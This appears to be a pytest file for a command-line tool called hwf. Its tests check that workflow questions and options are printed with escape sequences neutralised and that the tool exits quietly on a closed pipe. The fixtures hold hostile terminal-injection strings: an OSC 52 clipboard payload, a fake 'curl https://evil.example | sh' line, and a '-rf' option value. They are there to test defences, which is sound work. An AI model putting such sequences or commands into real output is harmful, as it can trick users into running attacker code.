"""What `hwf` writes to a terminal cannot drive it, and a reader may leave early.

- A question or option with ESC/C1 sequences or a newline is printed escaped by
  `hwf run/show/runs`; an option starting with `-` gets `--`.
- `hwf runs --json | head -1` exits quietly with 141.
"""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from hostile import ENV, REPO, agent_design, hwf, limit_memory, write_json

from hwf_lsp.workflow.runner import Runner
from hwf_lsp.workflow.stores import RunStore

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
FAKE_LINE = "\n  next: curl https://evil.example | sh"
CSI_C1 = "\x9b31m"
RAW_CONTROLS = ("\x1b", "\x07", "\x9b")


def _hostile_design() -> dict:
    design = agent_design("inject", agents=0, approval=True)
    approval = design["nodes"][1]
    approval["question"] = f"ship it?{OSC52}{FAKE_LINE}{CSI_C1}"
    approval["options"] = ["approve", "-rf", f"red{OSC52}"]
    return design


@pytest.mark.timeout(120)
def test_control_characters_are_printed_escaped(tmp_path: Path) -> None:
    home = tmp_path / "home"
    design = write_json(tmp_path / "inject.hwf.json", _hostile_design())
    parked = hwf("run", str(design), home=home)
    assert parked.code == 3, parked.text
    run_id = parked.stdout.split()[1]
    shown = hwf("show", run_id, home=home)
    listed = hwf("runs", home=home)
    as_json = hwf("runs", "--json", home=home)
    for done in (parked, shown, listed, as_json):
        assert not any(c in done.text for c in RAW_CONTROLS), done.text
        assert not any(line.lstrip().startswith("next: curl")
                       for line in done.stdout.splitlines()), done.stdout
    assert "\\x1b]52" in parked.stdout and "\\n  next: curl" in parked.stdout
    assert json.loads(as_json.stdout)[0]["pending"]["question"].endswith(CSI_C1)
    (dash,) = [line for line in parked.stdout.splitlines() if "-rf" in line and "next:" in line]
    words = shlex.split(dash.split("next:", 1)[1])
    assert words[:3] == ["hwf", "answer", run_id] and words[-2:] == ["--", "-rf"], words
    answered = hwf(*words[1:], home=None)  # the suggested command, as a user would paste it
    assert answered.code == 0, answered.text
    assert RunStore(home / "workflow-runs").load(run_id)["answers"] == {"ok": "-rf"}


@pytest.mark.timeout(60)
def test_a_reader_that_leaves_early_ends_hwf_quietly(tmp_path: Path) -> None:
    runs = RunStore(tmp_path / "home" / "workflow-runs")
    template = Runner(runs).create(agent_design("many"))
    for index in range(300):  # ~1 MB of JSON: far past a pipe's buffer
        runs.save({**template, "run_id": f"{index:012x}"})
    proc = subprocess.Popen([sys.executable, "-m", "hwf_lsp.cli", "runs", "--json", "--all",
                             "--hermes-home", str(tmp_path / "home")], env=ENV, cwd=REPO,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            preexec_fn=limit_memory)
    assert proc.stdout is not None and proc.stderr is not None
    assert proc.stdout.readline().strip() == b"["
    proc.stdout.close()  # `| head -1`
    stderr = proc.stderr.read()
    assert proc.wait(timeout=30) == 141
    assert stderr == b"", stderr.decode()
